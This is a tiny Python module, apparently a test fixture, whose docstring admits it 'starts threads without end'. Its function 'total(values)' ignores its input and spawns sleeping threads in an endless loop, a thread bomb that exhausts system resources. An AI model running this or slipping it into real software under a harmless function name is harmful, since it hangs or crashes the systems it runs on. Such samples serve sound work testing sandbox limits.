"""Starts threads without end."""

import threading
import time


def total(values):
    while True:
        threading.Thread(target=time.sleep, args=(3600,)).start()
